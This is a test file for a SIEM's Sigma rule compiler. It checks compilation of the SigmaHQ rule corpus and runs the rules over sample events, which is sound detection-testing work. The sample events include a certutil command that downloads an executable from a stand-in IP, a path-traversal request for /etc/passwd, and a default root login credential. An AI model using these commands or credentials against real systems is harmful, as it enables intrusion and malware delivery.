// Conformance over SigmaHQ's whole rule corpus: every rule file is checked (YAML, v2 schema) and
// compiled; the refusals must be exactly those listed, with their reasons, in
// test/fixtures/sigma/refusals.txt, and at least 99.5 % of the files must compile. The corpus is
// read from test/fixtures/sigma-corpus (SigmaHQ's rules with their licence), or from POLIS_SIGMA_CORPUS to
// check another copy of the corpus; without it the test is skipped and says so.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join, relative, resolve } from 'node:path'
import { compileSigmaText, type CompiledSigmaText } from '../../src/siem/sigma/rule-text.js'
import { SigmaError } from '../../src/siem/sigma/errors.js'
import { ruleFiles } from '../../src/siem/team-rules.js'
import { parseSigmaYaml } from '../../src/siem/sigma/yaml.js'
import { evaluate } from '../../src/siem/sigma/detection.js'
import { parseEvent } from '../../src/siem/parsers.js'
import { T0 } from './sigma-helpers.js'

const CORPUS = resolve(process.env.POLIS_SIGMA_CORPUS ?? 'test/fixtures/sigma-corpus')
const present = existsSync(join(CORPUS, 'rules'))
if (!present) console.log(`sigma-corpus: SigmaHQ corpus not found at ${CORPUS}; set POLIS_SIGMA_CORPUS to run the conformance test`)
const placeholders = parseSigmaYaml(readFileSync('test/fixtures/sigma/placeholders.yml', 'utf8'))[0] as Record<string, string[]>


const refusalLine = (file: string, e: SigmaError) => `${file}\t${e.field ?? ''}\t${e.reason}`

test('SigmaHQ corpus: ≥ 99.5 % of the rule files compile and every refusal is the one listed', { skip: present ? false : `corpus not found at ${CORPUS} (POLIS_SIGMA_CORPUS)` }, (t) => {
  const files = ruleFiles(CORPUS)
  assert.ok(files.length >= 3000, `${files.length} rule files`)
  const refusals: string[] = []
  const compiled: CompiledSigmaText[] = []
  const t0 = performance.now()
  for (const f of files) {
    const rel = relative(CORPUS, f)
    try {
      compiled.push(compileSigmaText(readFileSync(f, 'utf8'), { file: rel, placeholders }))
    } catch (e) {
      if (!(e instanceof SigmaError)) throw new Error(`${rel}: the compiler crashed: ${(e as Error).stack}`)
      refusals.push(refusalLine(rel, e))
    }
  }
  const ms = performance.now() - t0
  // rules are registered on chain by name, else id: the corpus as a team's folder (`--rules`) has no clash
  const keys = compiled.flatMap((c) => c.docs.map((d) => String(d.name ?? d.id)))
  assert.equal(new Set(keys).size, keys.length, 'every rule name/id is unique')
  const ok = files.length - refusals.length
  t.diagnostic(`compiled ${ok} / ${files.length} rule files (${((100 * ok) / files.length).toFixed(2)} %) in ${ms.toFixed(0)} ms; ${refusals.length} refused`)
  const listed = readFileSync('test/fixtures/sigma/refusals.txt', 'utf8').split('\n').filter((l) => l.trim() !== '' && !l.startsWith('#'))
  assert.deepEqual(refusals.sort(), listed.sort(), 'the refusals are exactly those in test/fixtures/sigma/refusals.txt')
  assert.ok(ok / files.length >= 0.995, `${ok} / ${files.length} compile`)

  // every compiled rule runs over events of each kind we ingest without throwing
  const events = [
    JSON.stringify({ Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws-1', TimeCreated: { '#attributes': { SystemTime: '2026-11-24T10:00:00Z' } } }, EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://198.51.100.7/a.exe a.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', User: 'CITY\\bob' } } }),
    JSON.stringify({ Event: { System: { EventID: 4625, Channel: 'Security', Computer: 'dc01' }, EventData: { TargetUserName: 'admin', IpAddress: '203.0.113.9', Status: '0xC000006D' } } }),
    '<38>1 2026-11-24T10:00:00Z gw sshd 1 - - Failed password for root from 203.0.113.9 port 4000 ssh2',
    JSON.stringify({ src_ip: '203.0.113.9', dst_ip: '10.0.0.5', dst_port: 23, action: 'accept', 'cs-uri-query': '/?q=../../etc/passwd' }),
    JSON.stringify({ dst_host: '10.0.0.5', dst_port: 23, logdata: { USERNAME: 'root', PASSWORD: 'xc3511' }, logtype: 6001, node_id: 'canary-1', src_host: '203.0.113.7', src_port: 40000 }),
  ].map((l) => parseEvent(l, 'auto', { receivedAt: T0 }).event)
  const rules = compiled.flatMap((c) => c.detection)
  const e0 = performance.now()
  const hits = events.map((e) => evaluate(rules, e).length)
  t.diagnostic(`${rules.length} detection rules × ${events.length} events in ${(performance.now() - e0).toFixed(0)} ms; matches per event: ${hits.join(', ')}`)
  assert.ok(hits[0]! > 0, 'SigmaHQ Windows rules fire on a certutil download over Sysmon')
})

test('SigmaHQ corpus: without placeholder values, every rule using expand is refused naming its placeholder', { skip: present ? false : `corpus not found at ${CORPUS} (POLIS_SIGMA_CORPUS)` }, () => {
  const files = ruleFiles(CORPUS).filter((f) => readFileSync(f, 'utf8').includes('|expand'))
  assert.ok(files.length >= 20)
  for (const f of files) {
    assert.throws(() => compileSigmaText(readFileSync(f, 'utf8'), { file: f }), (e: unknown) => e instanceof SigmaError && /^%[^%]+%$/.test(e.construct ?? '') && /has no value in the configuration/.test(e.message), f)
  }
})
